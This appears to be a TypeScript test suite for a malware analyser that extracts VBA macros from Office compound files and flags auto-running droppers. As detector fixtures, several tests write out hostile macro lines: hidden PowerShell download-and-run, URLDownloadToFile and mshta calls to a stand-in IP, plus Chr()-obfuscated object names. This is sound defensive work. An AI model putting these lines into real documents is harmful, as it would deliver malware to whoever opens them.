import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';

import { DEFAULT_LIMITS, InflateBudget } from '../../src/analysis/formats/limits.ts';
import { inspectOle } from '../../src/analysis/formats/ole.ts';
import { readVbaSource } from '../../src/analysis/formats/vba.ts';
import { isDropper, macroIntent } from '../../src/analysis/formats/vba-code.ts';
import { ole, vbaStreams, type VbaModule } from './formats-builders.ts';

describe('vba: module source from the dir stream', () => {
  const read = (record: Record<string, Uint8Array>, allowance = 1_000_000): ReturnType<typeof readVbaSource> =>
    readVbaSource(new Map(Object.entries(record).map(([path, bytes]) => [`root entry/${path}`.toLowerCase(), bytes])), allowance);
  it('reads each module from the offset its dir record gives, after the p-code', () => {
    const modules: VbaModule[] = [
      { name: 'ThisDocument', source: 'Private Sub Document_Open()\r\nEnd Sub\r\n', pcode: 1234 },
      { name: 'Module1', source: 'Sub Tidy()\r\nEnd Sub\r\n' },
    ];
    const source = read(vbaStreams(modules));
    assert.equal(source.truncated, false);
    assert.deepEqual(source.modules, [
      'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\nEnd Sub\r\n',
      'Attribute VB_Name = "Module1"\r\nSub Tidy()\r\nEnd Sub\r\n',
    ]);
  });
  it('finds projects in Word 97 and Excel storages', () => {
    const module = [{ name: 'Module1', source: 'Sub A()\r\nEnd Sub\r\n', pcode: 10 }];
    assert.equal(read(vbaStreams(module, 'Macros/VBA')).modules.length, 1);
    assert.equal(read(vbaStreams(module, '_VBA_PROJECT_CUR/VBA')).modules.length, 1);
  });
  it('marks the project truncated when the dir stream or a module cannot be read', () => {
    const unread = (source: ReturnType<typeof read>): readonly unknown[] => [source.modules, source.truncated];
    assert.deepEqual(unread(read({ 'VBA/dir': new Uint8Array(8) })), [[], true]);
    const project = vbaStreams([{ name: 'Module1', source: 'Sub A()\r\nEnd Sub\r\n', pcode: 10 }]);
    assert.deepEqual(unread(read({ ...project, 'VBA/Module1': new Uint8Array(40) })), [[], true]);
    const { 'VBA/Module1': _module, ...withoutModule } = project;
    assert.deepEqual(unread(read(withoutModule)), [[], true]);
  });
  it('reads a module stream once, however many dir records name it', () => {
    const project = vbaStreams([
      { name: 'Module1', source: 'Sub A()\r\nEnd Sub\r\n', pcode: 10 },
      { name: 'Module2', source: 'Sub B()\r\nEnd Sub\r\n' },
    ]);
    // The dir of a project whose two modules both name Module1's stream.
    const renamed = vbaStreams([
      { name: 'Module1', source: '', pcode: 10 },
      { name: 'Module1', source: '', pcode: 10 },
    ]);
    const source = read({ ...project, 'VBA/dir': renamed['VBA/dir']! });
    assert.equal(source.modules.length, 1);
    assert.equal(source.truncated, true);
  });
  it('never throws on damaged dir and module streams', () => {
    const project = vbaStreams([
      { name: 'ThisDocument', source: 'Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n', pcode: 40 },
      { name: 'Module1', source: 'Sub A()\r\nEnd Sub\r\n' },
    ]);
    const damage = (bytes: Uint8Array, edits: readonly (readonly [number, number])[]): Uint8Array => {
      const copy = bytes.slice();
      for (const [at, value] of edits) copy[at % copy.length] = value;
      return copy;
    };
    const edits = fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(edits, edits, fc.nat(3000), (dirEdits, moduleEdits, allowance) => {
        const source = read(
          { ...project, 'VBA/dir': damage(project['VBA/dir']!, dirEdits), 'VBA/ThisDocument': damage(project['VBA/ThisDocument']!, moduleEdits) },
          allowance,
        );
        assert.ok(source.decompressed <= allowance);
      }),
      { numRuns: 300 },
    );
  });
  it('decompresses no more than its allowance, and inspectOle spends it from the inflation budget', () => {
    const project = vbaStreams([{ name: 'Module1', source: `Sub A()\r\n${'  Range("A1").Value = 1\r\n'.repeat(2000)}End Sub\r\n` }]);
    const source = read(project, 10_000);
    assert.ok(source.truncated && source.decompressed <= 10_000);
    const budget = new InflateBudget(1_000_000);
    assert.equal(inspectOle(ole(project), DEFAULT_LIMITS, budget).truncated, false);
    assert.ok(budget.left < 1_000_000 - 50_000);
    assert.equal(inspectOle(ole(project), DEFAULT_LIMITS, new InflateBudget(0)).truncated, true);
  });
  it('reads the project of a compound file through inspectOle', () => {
    const dropper = ole({
      WordDocument: new Uint8Array(600),
      ...vbaStreams([{ name: 'ThisDocument', source: 'Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n', pcode: 64 }], 'Macros/VBA'),
    });
    const findings = inspectOle(dropper, DEFAULT_LIMITS);
    assert.deepEqual([findings.vba, findings.macroDropper, findings.truncated], [true, true, false]);
  });
});

describe('vba-code: what a macro sets out to do', () => {
  const intent = (source: string): ReturnType<typeof macroIntent> => macroIntent([source]);
  const dropper = (source: string): boolean => isDropper(intent(source));
  it('finds the procedures Office runs by itself', () => {
    for (const declaration of [
      'Sub AutoOpen()',
      'Private Sub Document_Open()',
      'Public Sub Workbook_Open()',
      'Sub Auto_Open()',
      'Private Sub Document_Close()',
      'Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Any)',
      'Private Sub Frame1_Layout()',
    ]) {
      assert.equal(intent(`${declaration}\r\nEnd Sub`).autoExec, true, declaration);
    }
    for (const other of [
      'Sub FormatReport()',
      'Private Sub Worksheet_Change(ByVal Target As Range)',
      "' Sub AutoOpen()",
      'Call AutoOpen',
      'MsgBox "Sub AutoOpen()"',
    ]) {
      assert.equal(intent(`${other}\r\nEnd Sub`).autoExec, false, other);
    }
  });
  it('finds what starts a program: Shell, WScript.Shell, program names, cmd /c', () => {
    for (const line of [
      'x = Shell("calc.exe", vbHide)',
      'VBA.Shell strCommand',
      'VBA.Interaction.Shell strCommand',
      'CreateObject("WScript.Shell").Run s, 0',
      'Set w = CreateObject("WScript.Shell")\r\nSet e = w.Exec(c)',
      'CreateObject("Shell.Application").ShellExecute "a.exe", "", "", "open", 0',
      'GetObject("winmgmts:").Get("Win32_Process").Create c',
      's = "powershell -w hidden -enc ..."',
      'c = "cmd /c start " & f',
      'Private Declare PtrSafe Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" ()',
    ]) {
      assert.equal(intent(line).execute, true, line);
    }
    for (const line of [
      'MsgBox "Open the shell and try again"',
      '\' Shell "calc.exe"',
      'Dim cmd As New ADODB.Command',
      'cmd.CommandText = "SELECT 1"',
      'Set shellFolder = Nothing',
      'Rem Shell "calc"',
      // Business macros' uses of the same objects: the desktop folder, a folder picker, a macro run by name.
      'p = CreateObject("WScript.Shell").SpecialFolders("Desktop")',
      'Set f = CreateObject("Shell.Application").BrowseForFolder(0, "Export to", 0)',
      'Application.Run "Module1.Tidy"',
    ]) {
      assert.equal(intent(line).execute, false, line);
    }
  });
  it('reads lines continued with an underscore as one', () => {
    assert.equal(intent('Sub _\r\nAutoOpen()\r\nEnd Sub').autoExec, true);
  });
  it('tells a fetch that is saved from one that is only read', () => {
    const saved = intent(
      'Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")\r\nSet st = CreateObject("ADODB.Stream")\r\nst.SaveToFile Environ("TEMP") & "\\a.exe"',
    );
    assert.deepEqual([saved.fetch, saved.write], [true, true]);
    const read = intent('Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", url, False\r\nRange("B2").Value = h.responseText');
    assert.deepEqual([read.fetch, read.write], [true, false]);
  });
  it('finds names spelt with character codes beside an object created by a computed name', () => {
    const spelt = Array.from('WScript.Shell WScript.Shell WScript.Shell WScript', (char) => `Chr(${char.charCodeAt(0)})`).join(' & ');
    assert.equal(intent(`Set o = CreateObject(${spelt})`).hiddenCalls, true);
    assert.equal(intent(`s = ${spelt}`).hiddenCalls, false);
    assert.equal(intent('CreateObject("Scripting.FileSystemObject").CreateTextFile(p).Write "a" & Chr(34) & "b" & Chr(10)').hiddenCalls, false);
  });
  it('calls a macro a dropper only when it runs by itself and starts, saves or hides something', () => {
    assert.equal(dropper('Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://198.51.100.4/a | iex", 0\r\nEnd Sub'), true);
    assert.equal(
      dropper('Private Sub Workbook_Open()\r\nURLDownloadToFile 0, "http://198.51.100.4/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\nEnd Sub'),
      true,
    );
    // A spreadsheet that formats itself on open, and a tool that runs a program when its button is pressed: macros, not droppers.
    assert.equal(
      dropper('Private Sub Workbook_Open()\r\nSheets("Report").Range("A1:F1").Font.Bold = True\r\nSheets("Report").Columns("A:F").AutoFit\r\nEnd Sub'),
      false,
    );
    assert.equal(dropper('Sub OpenExportFolder()\r\nShell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus\r\nEnd Sub'), false);
    assert.equal(
      dropper(
        'Private Sub Workbook_Open()\r\nSheets("Log").Range("A1").Value = CreateObject("WScript.Shell").SpecialFolders("Desktop")\r\nApplication.Run "Module1.Tidy"\r\nEnd Sub',
      ),
      false,
    );
    // Exchange rates fetched on open and written to cells: a download that is never saved.
    assert.equal(
      dropper(
        'Private Sub Workbook_Open()\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://api.example.org/rates", False\r\nh.send\r\nSheets("Rates").Range("B2").Value = h.responseText\r\nEnd Sub',
      ),
      false,
    );
  });
  it('reads the modules of a project together (the entry point in one, the payload in another)', () => {
    assert.equal(
      isDropper(macroIntent(['Private Sub Document_Open()\r\nRunIt\r\nEnd Sub', 'Sub RunIt()\r\nShell "mshta http://198.51.100.4/a.hta"\r\nEnd Sub'])),
      true,
    );
  });
});
